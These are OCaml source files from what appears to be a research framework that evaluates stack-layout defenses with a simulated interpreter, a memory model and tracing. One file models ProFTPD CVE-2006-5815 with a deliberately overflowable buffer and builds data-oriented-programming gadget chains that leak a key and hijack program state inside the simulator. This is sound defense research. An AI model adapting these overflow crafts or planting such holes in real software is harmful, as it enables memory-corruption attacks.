let eval_icmp op a b =
  let open Ir.Instr in
  let r =
    match op with
    | Eq -> Int64.equal a b
    | Ne -> not (Int64.equal a b)
    | Slt -> Int64.compare a b < 0
    | Sle -> Int64.compare a b <= 0
    | Sgt -> Int64.compare a b > 0
    | Sge -> Int64.compare a b >= 0
    | Ult -> Int64.unsigned_compare a b < 0
    | Ule -> Int64.unsigned_compare a b <= 0
  in
  if r then 1L else 0L

let rec call_function (st : state) (f : Ir.Func.t) (args : int64 list) :
    int64 option =
  st.call_count <- st.call_count + 1;
  st.depth <- st.depth + 1;
  st.max_depth <- max st.max_depth st.depth;
  charge st Cost.call_overhead;
  let caller = st.cur_func in
  st.cur_func <- f.name;
  (match st.on_event with
  | Some emit -> emit (Ev_call { func = f.name; depth = st.depth; sp = st.sp })
  | None -> ());
  let entry_sp = st.sp in
  let regs = Array.make (max 1 (Ir.Func.reg_count f)) 0L in
  (if List.length args <> List.length f.params then
     raise
       (Memory.Fault
          (Memory.Misc
             (Printf.sprintf "call to %s with %d args, expected %d" f.name
                (List.length args) (List.length f.params)))));
  List.iter2 (fun (r, _) v -> regs.(r) <- v) f.params args;
  let eval = function
    | Ir.Instr.Reg r -> regs.(r)
    | Ir.Instr.Imm i -> i
    | Ir.Instr.Global g -> Int64.of_int (global_addr st g)
    | Ir.Instr.Func_ref fn -> (
        match Hashtbl.find_opt st.func_tokens fn with
        | Some t -> Int64.of_int t
        | None ->
            raise
              (Memory.Fault
                 (Memory.Misc (Printf.sprintf "unknown function reference %s" fn))))
  in
  let do_alloca ty count =
    let elt = Ir.Ty.size ty in
    let n =
      match count with
      | None -> 1
      | Some c ->
          let v = eval c in
          if Int64.compare v 0L < 0 || Int64.compare v 0x10000000L > 0 then
            raise (Memory.Fault (Memory.Misc "VLA length out of range"))
          else Int64.to_int v
    in
    let bytes = elt * n in
    let new_sp =
      Sutil.Align.align_down (st.sp - bytes)
        ~alignment:(max 1 (Ir.Ty.alignment ty))
    in
    if new_sp < st.stack_limit then
      raise (Memory.Fault (Memory.Stack_overflow { sp = st.sp; need = bytes }));
    st.sp <- new_sp;
    st.max_frame_bytes <- max st.max_frame_bytes (entry_sp - st.sp);
    charge st Cost.alloca;
    Int64.of_int new_sp
  in
  let do_call dst callee args =
    let argv = List.map eval args in
    let result =
      match Ir.Prog.find_func st.prog callee with
      | Some callee_f -> call_function st callee_f argv
      | None ->
          if Ir.Prog.is_extern st.prog callee then
            run_builtin st callee (Array.of_list argv)
          else
            raise
              (Memory.Fault
                 (Memory.Misc (Printf.sprintf "call to unknown function %s" callee)))
    in
    match dst with
    | Some d -> regs.(d) <- Option.value ~default:0L result
    | None -> ()
  in
  let exec_instr i =
    st.instr_count <- st.instr_count + 1;
    st.fuel <- st.fuel - 1;
    if st.fuel <= 0 then raise Out_of_fuel;
    match i with
    | Ir.Instr.Alloca { dst; ty; count; name = _ } -> regs.(dst) <- do_alloca ty count
    | Ir.Instr.Load { dst; ty; addr } ->
        let a = Int64.to_int (eval addr) in
        charge st
          (if a >= rodata_base && a < data_base then Cost.load_rodata
           else Cost.load);
        regs.(dst) <- Memory.load st.mem ~width:(Ir.Ty.scalar_width ty) a
    | Ir.Instr.Store { ty; value; addr } ->
        charge st Cost.store;
        Memory.store st.mem ~width:(Ir.Ty.scalar_width ty)
          (Int64.to_int (eval addr))
          (eval value)
    | Ir.Instr.Gep { dst; base; offset; index } ->
        charge st Cost.alu;
        let idx =
          match index with
          | None -> 0L
          | Some (i, scale) -> Int64.mul (eval i) (Int64.of_int scale)
        in
        regs.(dst) <- Int64.add (Int64.add (eval base) (Int64.of_int offset)) idx
    | Ir.Instr.Binop { dst; op; lhs; rhs } ->
        charge st
          (match op with
          | Sdiv | Udiv | Srem | Urem -> Cost.div
          | _ -> Cost.alu);
        regs.(dst) <- eval_binop op (eval lhs) (eval rhs)
    | Ir.Instr.Icmp { dst; op; lhs; rhs } ->
        charge st Cost.alu;
        regs.(dst) <- eval_icmp op (eval lhs) (eval rhs)
    | Ir.Instr.Select { dst; cond; if_true; if_false } ->
        charge st Cost.alu;
        regs.(dst) <- (if Int64.equal (eval cond) 0L then eval if_false else eval if_true)
    | Ir.Instr.Sext { dst; width; value } ->
        charge st Cost.alu;
        regs.(dst) <- Sutil.Bytecodec.sext ~width (eval value)
    | Ir.Instr.Trunc { dst; width; value } ->
        charge st Cost.alu;
        regs.(dst) <- Sutil.Bytecodec.zext ~width (eval value)
    | Ir.Instr.Call { dst; callee; args } -> do_call dst callee args
    | Ir.Instr.Call_ind { dst; callee; args } -> (
        let target = Int64.to_int (eval callee) in
        match Hashtbl.find_opt st.token_funcs target with
        | Some name -> do_call dst name args
        | None ->
            raise
              (Memory.Fault
                 (Memory.Misc
                    (Printf.sprintf "indirect call to non-function address 0x%x" target))))
    | Ir.Instr.Intrinsic { dst; name; args } -> (
        charge st Cost.intrinsic_base;
        match Hashtbl.find_opt st.intrinsics name with
        | Some fn -> (
            let result = fn st (Array.of_list (List.map eval args)) in
            (match st.on_event with
            | Some emit -> emit (Ev_intrinsic { name; result })
            | None -> ());
            match dst with
            | Some d -> regs.(d) <- Option.value ~default:0L result
            | None -> ())
        | None ->
            raise
              (Memory.Fault
                 (Memory.Misc (Printf.sprintf "unregistered intrinsic %s" name))))
  in
  let tbl = blocks_of f in
  let rec run_block (b : Ir.Func.block) =
    List.iter exec_instr b.instrs;
    match b.term with
    | Ir.Instr.Ret v ->
        charge st Cost.branch;
        Option.map eval v
    | Ir.Instr.Br l ->
        charge st Cost.branch;
        run_block (Hashtbl.find tbl l)
    | Ir.Instr.Cond_br { cond; if_true; if_false } ->
        charge st Cost.cond_branch;
        let l = if Int64.equal (eval cond) 0L then if_false else if_true in
        run_block (Hashtbl.find tbl l)
    | Ir.Instr.Unreachable ->
        raise (Memory.Fault (Memory.Misc ("unreachable executed in " ^ f.name)))
  in
  match run_block (Ir.Func.entry f) with
  | result ->
      st.sp <- entry_sp;
      st.depth <- st.depth - 1;
      (match st.on_event with
      | Some emit -> emit (Ev_return { func = f.name; depth = st.depth })
      | None -> ());
      st.cur_func <- caller;
      result
  | exception e ->
      (* unwind bookkeeping but propagate: the run is over, and
         [cur_func] keeps the innermost function for the report *)
      st.depth <- st.depth - 1;
      raise e

let stats_of_state (st : state) =
  {
    cycles = st.cycles;
    instr_count = st.instr_count;
    call_count = st.call_count;
    max_depth = st.max_depth;
    max_frame_bytes = st.max_frame_bytes;
    rss_bytes = Memory.touched_bytes st.mem;
    output = Buffer.contents st.output;
  }

let run ?(fuel = 200_000_000) ?(entry = "main") ?(args = []) st =
  st.fuel <- fuel;
  st.cur_func <- entry;
  let outcome =
    match Ir.Prog.find_func st.prog entry with
    | None -> Fault { fault = Memory.Misc ("no entry function " ^ entry); func = "-" }
    | Some f -> (
        try
          let r = call_function st f args in
          Exit (Option.value ~default:0L r)
        with
        | Exit_program code -> Exit code
        | Memory.Fault fault ->
            (match st.on_event with
            | Some emit -> emit (Ev_fault { detail = Memory.fault_to_string fault })
            | None -> ());
            Fault { fault; func = st.cur_func }
        | Detect reason ->
            (match st.on_event with
            | Some emit -> emit (Ev_detected { reason })
            | None -> ());
            Detected { reason; func = st.cur_func }
        | Out_of_fuel -> Fuel_exhausted)
  in
  (outcome, stats_of_state st)
