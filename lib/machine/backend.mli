(** Pluggable execution backends.

    The reference tree-walking interpreter ({!Exec.run}) is the
    semantic oracle; faster engines (the bytecode engine in
    [lib/engine]) register themselves here and are selected by the
    harness, the benchmarks and the CLIs via [--engine].  Every backend
    consumes a prepared {!Exec.state} and must preserve the full
    observable contract: identical outcomes, program output, cycle
    accounting, fault and detection events, and trace emission.

    Domain-safety: the registry is mutated only by library
    initializers at link time and {!set_default} is an atomic switch
    meant for CLI startup — both strictly before any {!Sched.Pool}
    worker domains exist.  After startup every operation here is a
    read, safe from any domain. *)

type kind = Reference | Bytecode

type run_fn =
  ?fuel:int -> ?entry:string -> ?args:int64 list -> Exec.state -> Exec.outcome * Exec.stats
(** Same signature and defaults as {!Exec.run}. *)

type t = { kind : kind; label : string; run : run_fn }

val kind_to_string : kind -> string
val kind_of_string : string -> kind option
(** Accepts ["ref"], ["reference"], ["interp"], ["bytecode"], ["bc"],
    ["engine"] (case-insensitive). *)

val all_kinds : kind list

val reference : t
(** The tree-walking oracle; always registered. *)

val register : t -> unit
(** Called by engine libraries at link time (idempotent per kind). *)

val find_opt : kind -> t option

val find : kind -> t
(** Raises [Failure] when the backend's library is not linked into the
    running executable. *)

val set_default : kind -> unit
(** Backend used when callers do not pass one explicitly (the
    process-wide [--engine] switch).  Raises [Failure] if unregistered. *)

val default : unit -> t
