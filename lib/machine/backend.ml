type kind = Reference | Bytecode

type run_fn =
  ?fuel:int -> ?entry:string -> ?args:int64 list -> Exec.state -> Exec.outcome * Exec.stats

type t = { kind : kind; label : string; run : run_fn }

let kind_to_string = function Reference -> "ref" | Bytecode -> "bytecode"

let kind_of_string s =
  match String.lowercase_ascii s with
  | "ref" | "reference" | "interp" -> Some Reference
  | "bytecode" | "bc" | "engine" -> Some Bytecode
  | _ -> None

let all_kinds = [ Reference; Bytecode ]

let reference = { kind = Reference; label = "reference"; run = Exec.run }

(* Backends register themselves at link time (the bytecode engine lives
   in a separate library that depends on this one); the reference
   interpreter is always available. *)
let registry : (kind, t) Hashtbl.t = Hashtbl.create 4
let () = Hashtbl.replace registry Reference reference
let register b = Hashtbl.replace registry b.kind b
let find_opt kind = Hashtbl.find_opt registry kind

let find kind =
  match find_opt kind with
  | Some b -> b
  | None ->
      failwith
        (Printf.sprintf
           "Machine.Backend.find: backend %S is not linked into this executable"
           (kind_to_string kind))

let default_kind = Atomic.make Reference

let set_default kind =
  ignore (find kind);
  Atomic.set default_kind kind

let default () = find (Atomic.get default_kind)
