(** Segmented byte-addressable memory.

    Models a process address space with the segments the threat model
    distinguishes: read-only data (attacker-readable, never writable —
    the P-BOX lives here), writable globals, heap, and a downward-
    growing stack.  Addresses are plain integers; address 0 is never
    mapped.  All accesses are bounds- and permission-checked; a
    violation raises {!exception:Fault}, which the interpreter turns
    into a crash outcome (the paper's "service restarts after a
    crash").

    Domain-safety: no module-level state; a memory belongs to one
    prepared {!Exec.state} and therefore to one job at a time. *)

type perm = Read_only | Read_write

type fault =
  | Out_of_bounds of { addr : int; size : int; op : string }
  | Write_protected of { addr : int }
  | Null_dereference
  | Stack_overflow of { sp : int; need : int }
  | Misc of string

exception Fault of fault

val pp_fault : Format.formatter -> fault -> unit
val fault_to_string : fault -> string

type segment = {
  name : string;
  base : int;
  bytes : Bytes.t;
  perm : perm;
  touched : Bytes.t;  (** one byte per 4 KiB page, for RSS accounting *)
}

type t

val page_size : int

val create : (string * int * int * perm) list -> t
(** [create segs] maps each [(name, base, size, perm)].  Segments must
    not overlap and must not contain address 0. *)

val segment : t -> string -> segment
(** Raises [Invalid_argument] for unknown names. *)

val segments : t -> segment list
val find : t -> int -> segment option
(** Segment containing an address, if mapped. *)

val load : t -> width:int -> int -> int64
(** Little-endian load, zero-extended. Raises {!exception:Fault}. *)

val store : t -> width:int -> int -> int64 -> unit

val load_unchecked : t -> width:int -> int -> int64
(** Permission-free read used by the attack framework's disclosure
    primitive (the attacker may read all mapped memory) and by
    diagnostics.  Still bounds-checked. *)

val read_bytes : t -> int -> int -> string
(** [read_bytes t addr n]; checked like {!load}. *)

val write_bytes : t -> int -> string -> unit

val write_protected : t -> int -> string -> unit
(** Loader-only write that ignores the read-only permission (used to
    initialize rodata). *)

val cstring : t -> ?max:int -> int -> string
(** Reads a NUL-terminated string starting at the address (NUL not
    included). [max] defaults to 1 MiB. *)

val touched_bytes : t -> int
(** Total bytes of pages touched so far, across all segments — the
    max-RSS proxy used by the Figure 4 experiment. *)

(** {1 Fault injection} — consumed by [lib/fault]. *)

val set_access_hook : t -> (unit -> unit) option -> unit
(** Install (or clear) a hook fired before {e every} checked access —
    loads, stores, string reads, byte blits.  The fault-injection
    layer uses it to flip a bit when the owning state's instruction
    counter crosses a plan's trigger; the hook must not itself call
    the checked accessors (use {!flip_bit}, which writes the backing
    bytes directly).  Costs one branch per access when [None]. *)

val flip_bit : t -> addr:int -> bit:int -> unit
(** Flip one bit of one mapped byte, ignoring permissions (this models
    a hardware fault, not a program store).  [bit] is in [\[0, 7\]].
    Raises [Invalid_argument] for unmapped addresses. *)
