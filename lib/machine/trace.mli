(** Execution tracing.

    A bounded ring of events the embedder opts into per state: function
    entries/exits with stack pointers, intrinsic calls with their
    results, and detection/fault events.  The exploit write-ups in
    [examples/] use it to show {e where} a corrupted run diverged; the
    CLI exposes it as [smokestackc run --trace].

    Tracing costs nothing when not attached (the interpreter's hook is
    [None]). *)

type event = Exec.trace_event =
  | Ev_call of { func : string; depth : int; sp : int }
  | Ev_return of { func : string; depth : int }
  | Ev_intrinsic of { name : string; result : int64 option }
  | Ev_fault of { detail : string }
  | Ev_detected of { reason : string }
  | Ev_rng_degraded of { from_ : string; to_ : string option; reason : string }

type t

val create : ?capacity:int -> unit -> t
(** Ring capacity defaults to 4096 events; older events are dropped. *)

val attach : t -> Exec.state -> unit
(** Start recording events from this state. *)

val record : t -> event -> unit
(** Append one event, dropping the oldest when the ring is full.
    [attach] installs this as the state's hook; exposed for embedders
    that merge their own events into the transcript, and for tests. *)

val events : t -> event list
(** Oldest first. *)

val dropped : t -> int
(** Events lost to the ring bound. *)

val pp_event : Format.formatter -> event -> unit

val render : ?limit:int -> t -> string
(** Human-readable transcript (indented by call depth), most recent
    [limit] events (default all retained). *)
