type perm = Read_only | Read_write

type fault =
  | Out_of_bounds of { addr : int; size : int; op : string }
  | Write_protected of { addr : int }
  | Null_dereference
  | Stack_overflow of { sp : int; need : int }
  | Misc of string

exception Fault of fault

let pp_fault fmt = function
  | Out_of_bounds { addr; size; op } ->
      Format.fprintf fmt "out-of-bounds %s of %d byte(s) at 0x%x" op size addr
  | Write_protected { addr } ->
      Format.fprintf fmt "write to read-only memory at 0x%x" addr
  | Null_dereference -> Format.pp_print_string fmt "null dereference"
  | Stack_overflow { sp; need } ->
      Format.fprintf fmt "stack overflow: sp=0x%x, need %d more bytes" sp need
  | Misc m -> Format.pp_print_string fmt m

let fault_to_string f = Format.asprintf "%a" pp_fault f

let page_size = 4096

type segment = {
  name : string;
  base : int;
  bytes : Bytes.t;
  perm : perm;
  touched : Bytes.t;
}

type t = {
  segs : segment array;  (* sorted by base; disjoint *)
  mutable last : int;  (* index of the last segment hit, for locality *)
  mutable on_access : (unit -> unit) option;
      (* fault-injection hook, fired before every checked access *)
}

let create specs =
  let segs =
    List.map
      (fun (name, base, size, perm) ->
        if base <= 0 || size <= 0 then
          invalid_arg "Machine.Memory.create: segments must have positive base and size";
        {
          name;
          base;
          bytes = Bytes.make size '\000';
          perm;
          touched = Bytes.make (((size + page_size - 1) / page_size)) '\000';
        })
      specs
    |> List.sort (fun a b -> compare a.base b.base)
    |> Array.of_list
  in
  Array.iteri
    (fun i s ->
      if i > 0 then begin
        let prev = segs.(i - 1) in
        if prev.base + Bytes.length prev.bytes > s.base then
          invalid_arg
            (Printf.sprintf "Machine.Memory.create: segments %s and %s overlap"
               prev.name s.name)
      end)
    segs;
  { segs; last = 0; on_access = None }

let segments t = Array.to_list t.segs

let segment t name =
  match Array.find_opt (fun s -> String.equal s.name name) t.segs with
  | Some s -> s
  | None -> invalid_arg (Printf.sprintf "Machine.Memory.segment: no segment %s" name)

let find t addr =
  Array.find_opt
    (fun s -> addr >= s.base && addr < s.base + Bytes.length s.bytes)
    t.segs

(* Hot path for every load/store: no closures, no [option] allocation,
   and a one-element cache of the last segment hit (accesses cluster on
   the stack or one data segment, so the cache almost always hits and
   skips the linear scan). *)
let locate t ~op addr size =
  (match t.on_access with Some f -> f () | None -> ());
  if addr = 0 then raise (Fault Null_dereference);
  let segs = t.segs in
  let s = Array.unsafe_get segs t.last in
  if addr >= s.base && addr + size <= s.base + Bytes.length s.bytes then s
  else begin
    let n = Array.length segs in
    let rec scan i =
      if i >= n then raise (Fault (Out_of_bounds { addr; size; op }))
      else
        let s = Array.unsafe_get segs i in
        (* segments are disjoint, so containment of [addr] identifies
           the unique candidate; an access that starts inside a segment
           but overruns it is out of bounds, exactly as before *)
        if addr >= s.base && addr + size <= s.base + Bytes.length s.bytes
        then begin
          t.last <- i;
          s
        end
        else scan (i + 1)
    in
    scan 0
  end

let touch s off size =
  let first = off / page_size and last = (off + size - 1) / page_size in
  for p = first to last do
    Bytes.unsafe_set s.touched p '\001'
  done

let load t ~width addr =
  let s = locate t ~op:"load" addr width in
  let off = addr - s.base in
  touch s off width;
  Sutil.Bytecodec.get s.bytes ~width off

let load_unchecked = load

let store t ~width addr v =
  let s = locate t ~op:"store" addr width in
  if s.perm = Read_only then raise (Fault (Write_protected { addr }));
  let off = addr - s.base in
  touch s off width;
  Sutil.Bytecodec.set s.bytes ~width off v

let read_bytes t addr n =
  if n = 0 then ""
  else begin
    let s = locate t ~op:"read" addr n in
    let off = addr - s.base in
    touch s off n;
    Bytes.sub_string s.bytes off n
  end

let write_bytes_perm ~check t addr str =
  let n = String.length str in
  if n > 0 then begin
    let s = locate t ~op:"write" addr n in
    if check && s.perm = Read_only then raise (Fault (Write_protected { addr }));
    let off = addr - s.base in
    touch s off n;
    Bytes.blit_string str 0 s.bytes off n
  end

let write_bytes t addr str = write_bytes_perm ~check:true t addr str
let write_protected t addr str = write_bytes_perm ~check:false t addr str

let cstring t ?(max = 1 lsl 20) addr =
  let buf = Buffer.create 32 in
  let rec go a =
    if Buffer.length buf >= max then
      raise (Fault (Misc (Printf.sprintf "unterminated string at 0x%x" addr)))
    else
      let c = Int64.to_int (load t ~width:1 a) in
      if c <> 0 then begin
        Buffer.add_char buf (Char.chr c);
        go (a + 1)
      end
  in
  go addr;
  Buffer.contents buf

let set_access_hook t hook = t.on_access <- hook

let flip_bit t ~addr ~bit =
  if bit < 0 || bit > 7 then
    invalid_arg "Machine.Memory.flip_bit: bit must be in [0, 7]";
  match find t addr with
  | None ->
      invalid_arg
        (Printf.sprintf "Machine.Memory.flip_bit: address 0x%x is unmapped"
           addr)
  | Some s ->
      let off = addr - s.base in
      Bytes.unsafe_set s.bytes off
        (Char.chr (Char.code (Bytes.unsafe_get s.bytes off) lxor (1 lsl bit)))

let touched_bytes t =
  Array.fold_left
    (fun acc s ->
      let pages = ref 0 in
      Bytes.iter (fun c -> if c <> '\000' then incr pages) s.touched;
      acc + (!pages * page_size))
    0 t.segs
