type event = Exec.trace_event =
  | Ev_call of { func : string; depth : int; sp : int }
  | Ev_return of { func : string; depth : int }
  | Ev_intrinsic of { name : string; result : int64 option }
  | Ev_fault of { detail : string }
  | Ev_detected of { reason : string }
  | Ev_rng_degraded of { from_ : string; to_ : string option; reason : string }

type t = {
  ring : event option array;
  mutable next : int;
  mutable total : int;
}

let create ?(capacity = 4096) () =
  if capacity <= 0 then invalid_arg "Machine.Trace.create: capacity must be positive";
  { ring = Array.make capacity None; next = 0; total = 0 }

let record t ev =
  t.ring.(t.next) <- Some ev;
  t.next <- (t.next + 1) mod Array.length t.ring;
  t.total <- t.total + 1

let attach t (st : Exec.state) = st.on_event <- Some (record t)

let events t =
  let cap = Array.length t.ring in
  let n = min t.total cap in
  let first = (t.next - n + cap) mod cap in
  List.init n (fun i -> Option.get t.ring.((first + i) mod cap))

let dropped t = max 0 (t.total - Array.length t.ring)

let pp_event fmt = function
  | Ev_call { func; depth; sp } ->
      Format.fprintf fmt "%s-> %s (sp=0x%x)" (String.make (2 * depth) ' ') func sp
  | Ev_return { func; depth } ->
      Format.fprintf fmt "%s<- %s" (String.make (2 * depth) ' ') func
  | Ev_intrinsic { name; result } -> (
      match result with
      | Some v -> Format.fprintf fmt "   @%s = 0x%Lx" name v
      | None -> Format.fprintf fmt "   @%s" name)
  | Ev_fault { detail } -> Format.fprintf fmt "!! fault: %s" detail
  | Ev_detected { reason } -> Format.fprintf fmt "!! detected: %s" reason
  | Ev_rng_degraded { from_; to_; reason } ->
      Format.fprintf fmt "!! rng degraded: %s -> %s (%s)" from_
        (match to_ with Some s -> s | None -> "ABORT")
        reason

let render ?limit t =
  let evs = events t in
  let evs =
    match limit with
    | Some l when List.length evs > l ->
        List.filteri (fun i _ -> i >= List.length evs - l) evs
    | _ -> evs
  in
  let buf = Buffer.create 1024 in
  if dropped t > 0 then
    Buffer.add_string buf (Printf.sprintf "... %d earlier event(s) dropped\n" (dropped t));
  List.iter
    (fun ev -> Buffer.add_string buf (Format.asprintf "%a\n" pp_event ev))
    evs;
  Buffer.contents buf
