let key_string = "FTPKEY:abcdef0123456789ABCDEF012"

let source =
  {|
const char ftp_key[33] = "FTPKEY:abcdef0123456789ABCDEF012";
long g_chain0 = 0;

// CVE-2006-5815: the %-expansion length computation can go negative;
// sstrncpy consumes it as size_t, unbounding the copy into buf.  The
// bounded copy-out happens first, as in the shipped code path.
void sreplace(char *dst, char *src, long blen) {
  char buf[512];
  strncpy(dst, src, 511);
  strncpy(buf, src, 512 - blen * 8);
}

// Command loop: the DOP gadget dispatcher.  The guard uses != (the
// shape of ProFTPD's session loop), so a stomped counter does not end
// the session.  Gadget operands op/delta are single bytes: an exploit
// payload arriving through a C-string copy can never contain NULs.
void cmd_loop() {
  char cmd[2048];
  long *cur = (long*)&g_chain0;
  long acc = 0;
  long mode = 0;
  long iter = 0;
  long n = 0;
  char pad0 = 0;
  char op = 0;
  char delta = 0;
  char expanded[600];
  while (iter != 1000) {
    n = read_input(cmd, 2000);
    if (n <= 0) break;
    cmd[n] = 0;
    sreplace(expanded, cmd, n);
    if (op == 1) acc = *cur;                         // LOAD
    else if (op == 2) cur = (long*)acc;              // MOV
    else if (op == 3) cur = (long*)((long)cur + delta); // PTR-ADD
    else if (op == 4) { print_int(acc); print_char(32); } // SEND
    else if (op == 5) acc += delta;                  // ACC-ADD
    else if (op == 6) mode = delta;                  // SETMODE
    else if (op == 7) acc += acc;                    // ACC-DBL
    op = 0;
    iter += 1;
  }
  if (mode == 7) { print_str("PERM-RWX "); }
  print_str("bye");
  print_newline();
}

int main() {
  long *c6 = (long*)malloc(8);
  long *c5 = (long*)malloc(8);
  long *c4 = (long*)malloc(8);
  long *c3 = (long*)malloc(8);
  long *c2 = (long*)malloc(8);
  long *c1 = (long*)malloc(8);
  long *c0 = (long*)malloc(8);
  *c6 = (long)ftp_key;
  *c5 = (long)c6;
  *c4 = (long)c5;
  *c3 = (long)c4;
  *c2 = (long)c3;
  *c1 = (long)c2;
  *c0 = (long)c1;
  g_chain0 = (long)c0;
  cmd_loop();
  return 0;
}
|}

let program = lazy (Minic.Driver.compile source)

let u64_of_prefix s =
  let v = ref 0L in
  for i = 7 downto 0 do
    v := Int64.logor (Int64.shift_left !v 8) (Int64.of_int (Char.code s.[i]))
  done;
  !v

let key_leak_marker = Int64.to_string (u64_of_prefix key_string)
let bot_answer = 0xB07B07
let bot_marker = string_of_int bot_answer
let memperm_marker = "PERM-RWX"
let benign_chunks = [ "USER alice"; "PASS hunter2"; "QUIT" ]

let sreplace_slots = [ ("dst", 8, 8); ("src", 8, 8); ("blen", 8, 8); ("buf", 512, 1) ]

let cmd_loop_slots =
  [
    ("cmd", 2048, 1); ("cur", 8, 8); ("acc", 8, 8); ("mode", 8, 8);
    ("iter", 8, 8); ("n", 8, 8); ("pad0", 1, 1); ("op", 1, 1); ("delta", 1, 1);
    ("expanded", 600, 1);
  ]

let chain = [ "main"; "cmd_loop"; "sreplace" ]

(* Offsets of op/delta relative to sreplace's buf. *)
let op_delta_offsets (applied : Defenses.Defense.applied) ~seed =
  let rows = Attacks.Layout.chain applied.prog chain in
  let exact v =
    Attacks.Layout.distance rows ~from_:("sreplace", "buf") ~to_:("cmd_loop", v)
  in
  match (exact "op", exact "delta") with
  | Some op, Some delta -> (op, delta)
  | _ -> (
      let rng = Sutil.Simrng.create ~seed in
      let callee_guess =
        Dopkit.guessed_slab_offsets ~slots:sreplace_slots ~vars:[ "buf" ]
          ~fid_slot:true ~seed:(Sutil.Simrng.next_u64 rng)
      in
      let caller_guess =
        Dopkit.guessed_slab_offsets ~slots:cmd_loop_slots ~vars:[ "op"; "delta" ]
          ~fid_slot:true ~seed:(Sutil.Simrng.next_u64 rng)
      in
      match
        Attacks.Layout.distance rows ~from_:("sreplace", "__ss_total")
          ~to_:("cmd_loop", "__ss_total")
      with
      | None -> invalid_arg "proftpd attack: no frame information"
      | Some gap ->
          let buf = List.assoc "buf" callee_guess in
          ( gap + List.assoc "op" caller_guess - buf,
            gap + List.assoc "delta" caller_guess - buf ))

(* One gadget invocation = one NUL-free command overflowing op/delta. *)
let gadget_chunk ~op_off ~delta_off (op, delta) =
  if op <= 0 || op > 127 || delta <= 0 || delta > 127 then
    invalid_arg "proftpd gadget: operands must be positive bytes";
  Attacks.Overflow.craft ~len:65
    [
      Attacks.Overflow.bytes op_off (String.make 1 (Char.chr op));
      Attacks.Overflow.bytes delta_off (String.make 1 (Char.chr delta));
    ]

let run_gadgets_session ?backend ?arm applied ~seed ~marker gadgets =
  match
    let op_off, delta_off = op_delta_offsets applied ~seed in
    List.map (gadget_chunk ~op_off ~delta_off) gadgets
  with
  | chunks ->
      let outcome, stats =
        Runner.run_chunks ?backend ?arm applied ~seed ~chunks
      in
      ( Attacks.Verdict.classify outcome
          ~goal_met:(Dopkit.goal_in_output marker stats),
        Some stats,
        List.length chunks )
  | exception Invalid_argument _ -> (Attacks.Verdict.No_effect, None, 0)

let run_gadgets applied ~seed ~marker gadgets =
  let verdict, _, _ = run_gadgets_session applied ~seed ~marker gadgets in
  verdict

(* delta is a don't-care for LOAD/MOV/SEND; 1 keeps the payload NUL-free *)
let load = (1, 1)
let mov = (2, 1)
let ptr_add d = (3, d)
let send = (4, 1)
let acc_add d = (5, d)
let setmode d = (6, d)
let acc_dbl = (7, 1)

(* Walk the 7-deep pointer chain (no node address is ever used — the
   ASLR-bypass property of the original), then stream 4 key words. *)
let key_extraction_gadgets =
  let walk = List.concat (List.init 8 (fun _ -> [ load; mov ])) in
  let leak =
    List.concat (List.init 4 (fun _ -> [ load; send; ptr_add 8 ]))
  in
  walk @ leak

let attack_key_extraction_session ?backend ?arm applied ~seed =
  run_gadgets_session ?backend ?arm applied ~seed ~marker:key_leak_marker
    key_extraction_gadgets

let attack_key_extraction applied ~seed =
  run_gadgets applied ~seed ~marker:key_leak_marker key_extraction_gadgets

(* Compute an attacker-chosen 24-bit answer with double-and-add, then
   emit it: the remotely-controlled-bot simulation. *)
let bot_gadgets =
  let bits = List.init 24 (fun i -> (bot_answer lsr (23 - i)) land 1) in
  let compute =
    List.concat_map
      (fun bit -> acc_dbl :: (if bit = 1 then [ acc_add 1 ] else []))
      bits
  in
  compute @ [ send ]

let attack_bot_session ?backend ?arm applied ~seed =
  run_gadgets_session ?backend ?arm applied ~seed ~marker:bot_marker bot_gadgets

let attack_bot applied ~seed =
  run_gadgets applied ~seed ~marker:bot_marker bot_gadgets

let attack_memperm_session ?backend ?arm applied ~seed =
  run_gadgets_session ?backend ?arm applied ~seed ~marker:memperm_marker
    [ setmode 7 ]

let attack_memperm applied ~seed =
  run_gadgets applied ~seed ~marker:memperm_marker [ setmode 7 ]
