(** Session-oriented view of the attackable applications, for the
    multi-tenant server runtime (lib/server).

    The batch harnesses drive each application as a one-shot experiment
    (craft, run, classify).  The server runtime instead multiplexes
    many {e sessions} — benign request flows with attack sessions
    interleaved — over prepared per-tenant instances.  This module is
    the registry that makes that possible without duplicating any app
    logic: every entry reuses the application's own program, benign
    request vocabulary, and the {e same} attack crafts as the batch
    harness (via the [*_session] entry points), so a served attack's
    verdict is comparable case-for-case with the batch verdict for the
    same [applied] and [seed]. *)

type result = {
  verdict : Attacks.Verdict.t;
  stats : Machine.Exec.stats option;
      (** [None] when the craft was impossible and nothing ran. *)
  requests : int;  (** request chunks delivered to the instance *)
}

type session_fn =
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Attacks.Verdict.t * Machine.Exec.stats option * int

type attack = {
  aname : string;
      (** Batch-harness case name, e.g. ["proftpd/key-extraction"] —
          matches {!Harness.Crossval} rows. *)
  session : session_fn;
  batch : Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t;
      (** The batch entry point the session craft is a superset of;
          used by the server harness to check served verdicts against
          batch verdicts. *)
}

type app = {
  sname : string;  (** e.g. ["proftpd"], ["synth-stack-direct"] *)
  sdescription : string;
  sprogram : Ir.Prog.t Lazy.t;
  benign : Sutil.Simrng.t -> string list;
      (** Draw one legitimate request flow (the chunks a benign client
          would send).  Flows stay inside the target's legitimate input
          envelope so a clean run classifies as [No_effect]. *)
  sattacks : attack list;
}

val run_benign :
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  Defenses.Defense.applied ->
  seed:int64 ->
  chunks:string list ->
  result
(** Run a benign flow against a prepared instance and classify the
    outcome ([goal_met] is necessarily false for a benign client). *)

val apps : app list
(** All nine session apps: proftpd, wireshark, librelp, and the six
    synthetic variants — carrying the batch harness's eleven attack
    cases between them. *)

val find : string -> app option

val attacks : (app * attack) list
(** The eleven (app, attack) cases in registry order. *)

val find_attack : string -> (app * attack) option
