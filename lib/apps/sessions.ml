type result = {
  verdict : Attacks.Verdict.t;
  stats : Machine.Exec.stats option;
  requests : int;
}

type session_fn =
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Attacks.Verdict.t * Machine.Exec.stats option * int

type attack = {
  aname : string;
  session : session_fn;
  batch : Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t;
}

type app = {
